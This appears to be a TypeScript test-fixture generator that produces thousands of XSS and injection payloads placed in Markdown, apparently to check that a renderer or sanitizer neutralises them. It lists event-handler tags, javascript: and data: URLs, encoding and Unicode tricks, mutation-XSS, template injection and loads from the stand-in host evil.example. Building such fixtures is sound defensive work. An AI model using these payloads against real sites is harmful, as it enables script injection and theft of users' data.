/**
 * Texts that try to be more than text: known families of attacks, each in every place of a Markdown text. All of them
 * call `pwn` or fetch from `evil.example`, so one that worked would be detected.
 */

const words = (list: string) => list.trim().split(/\s+/);
const cross = <A, B>(as: A[], bs: B[], join: (a: A, b: B) => string) => as.flatMap((a) => bs.map((b) => join(a, b)));

const EVIL = "https://evil.example/x";
const IMAGE = "<img src=x onerror=pwn()>";

const tags =
  words(`img svg body iframe video audio input details marquee object embed math style link meta base form button a
  xss template noscript textarea title select frameset table picture source animate set foreignObject use image dialog script`);
const events =
  words(`onload onerror onclick onfocus ontoggle onmouseover onanimationstart onpointerenter onbegin onpageshow
  onscroll oncanplay`);

const elements = [
  ...cross(tags, events, (tag, event) => `<${tag} ${event}=pwn() autofocus open src=${EVIL} href=${EVIL}>`),
  ...cross(tags, ['"', "'", "`", "/"], (tag, quote) => `${quote}><${tag}${quote}/onerror=${quote}pwn()${quote} src=x>`),
  ...words("script iframe style svg math noscript template xmp plaintext").map(
    (tag) => `</${tag}><${tag}>pwn()</${tag}>`,
  ),
];

const addresses = [
  "javascript:pwn()",
  "JaVaScRiPt:pwn()",
  "java\tscript:pwn()",
  "java&#10;script:pwn()",
  "&#106;avascript:pwn()",
  "&#x6a&#x61vascript:pwn()",
  "\u0001javascript:pwn()",
  "javascript&colon;pwn()",
  "javascript\u200b:pwn()",
  "javascript://evil.example/%0apwn()",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwn()//'>",
  "%6aavascript:pwn()",
  "vbscript:pwn()",
  "data:text/html,<script>pwn()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "view-source:javascript:pwn()",
  "feed:javascript:pwn()",
  "jar:https://evil.example!/x",
  "ws://evil.example/",
  "intent://x#Intent;scheme=javascript;end",
  "filesystem:https://evil.example/x",
  "about:blank",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "http://evil.example/x",
  "https://shop.example@evil.example/x",
  "https:evil.example/x",
  "https://evil.example/\u202egnp.exe",
  'https://evil.example/x" onmouseover="pwn()',
  "https://evil.example/x'><script>pwn()</script>",
  "mailto:a@b.c?body=<script>pwn()</script>",
  EVIL,
];
const links = cross(
  addresses,
  [
    "[x](%)",
    "[x](<%>)",
    "![x](%)",
    '[x](% "onload=pwn()")',
    "[x]: %\n\n[x] [y][x]",
    "<%>",
    "%",
    "[1](%)",
    "[![x](%)](%)",
    "[**x**](%)",
    "<a href=%>x</a>",
    "[%](%)",
  ],
  (address, form) => form.replaceAll("%", () => address),
);

const rewrites: ((text: string) => string)[] = [
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;"),
  (text) => text.replaceAll("<", "&#x3c;"),
  (text) => text.replaceAll("<", "&#0000060"),
  (text) => text.replaceAll("<", "&amp;lt;"),
  (text) => text.replaceAll("<", "%3C"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll("<", "\u00bc"),
  (text) => text.replaceAll("<", "<\0"),
  (text) => [...text].join("\u200b"),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2066${text}`,
  (text) => text.replaceAll(" ", "\u00a0"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\f"),
  (text) => text.toUpperCase().replaceAll("PWN", "pwn"),
  (text) => text.replaceAll("i", "\u0131").replaceAll("s", "\u017f"),
  (text) => `${text}${"\u0300".repeat(40)}`,
  (text) => [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!)).join(""),
  (text) => `\ud800${text}\udc00`,
];
const bases = [
  IMAGE,
  "<script>pwn()</script>",
  "<svg/onload=pwn()>",
  `<iframe srcdoc="${IMAGE}">`,
  "<a href=javascript:pwn()>x</a>",
];
const encoded = cross(bases, rewrites, (base, rewrite) => rewrite(base));

const mutations = [
  `<svg><style><img src="</style>${IMAGE}">`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<math><mtext><table><mglyph><style><!--</style>${IMAGE}-->`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<table><svg><foreignObject><p>${IMAGE}`,
  `<!--[if IE]>${IMAGE}<![endif]-->`,
  `<![CDATA[${IMAGE}]]>`,
  `<?xml-stylesheet href="javascript:pwn()"?>${IMAGE}`,
  `<template shadowrootmode=open>${IMAGE}</template>`,
  `<select><style></select>${IMAGE}`,
  `<xmp>${IMAGE}</xmp>`,
  `<listing>&lt;img src=x onerror=pwn()&gt;</listing>`,
  `<svg><animate attributeName=href values=javascript:pwn() /><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>#x">`,
  `<link rel=stylesheet href=${EVIL}>`,
  `<style>@import '${EVIL}';*{background:url(${EVIL})}</style>`,
  `<p style="background:url(${EVIL});behavior:url(#x);width:expression(pwn())">`,
  `<div style=-moz-binding:url(${EVIL})>`,
  `<meta http-equiv=refresh content="0;url=javascript:pwn()">`,
  `<base href=${EVIL}><a href=x>x</a>`,
  `<object data=${EVIL}><param name=src value=${EVIL}></object>`,
  `<img srcset="${EVIL} 1x" src=${EVIL} lowsrc=${EVIL} dynsrc=${EVIL}>`,
  "{{constructor.constructor('pwn()')()}}",
  "$" + "{pwn()}",
  "#{pwn()}",
  "<%= pwn() %>",
  "<div v-html='pwn()' ng-app ng-csp ng-init=pwn()>{{$on.constructor('pwn()')()}}</div>",
  "[[$" + "{pwn()}]]",
  '{"__html":"<img src=x onerror=pwn()>"}',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"pwn()"}}}',
  "__proto__[innerHTML]=<img/src/onerror=pwn()>",
  'x\r\n\r\ndata: {"type":"message"}\n\n<script>pwn()</script>',
  "<frontdesk-chat onclick=pwn()><slot name=x onslotchange=pwn()></slot></frontdesk-chat>",
];

const places = [
  "%",
  "**%**",
  "- % \n  - %",
  "> %",
  "# %",
  "`%`",
  "```html\n%\n```",
  "```%\nx",
  "| % |\n| - |\n| % |",
  "1. a\n\n   %",
  "[%](https://e.com)",
  "~~*%*~~ [1] %",
  "    %",
  '[x](https://e.com "%")',
];

/** This many different texts, spread evenly over all families. Always the same ones. */
export function hostileTexts(count: number): string[] {
  const plain = [...elements, ...links, ...encoded, ...mutations];
  const placed = cross(
    places.slice(1),
    [...elements.filter((_, n) => n % 5 === 0), ...encoded, ...mutations, ...links.filter((_, n) => n % 7 === 0)],
    (place, text) => place.replaceAll("%", () => text),
  );
  const all = [...new Set([...plain, ...placed])];
  return all.filter((_, n) => Math.floor((n * count) / all.length) !== Math.floor(((n - 1) * count) / all.length));
}
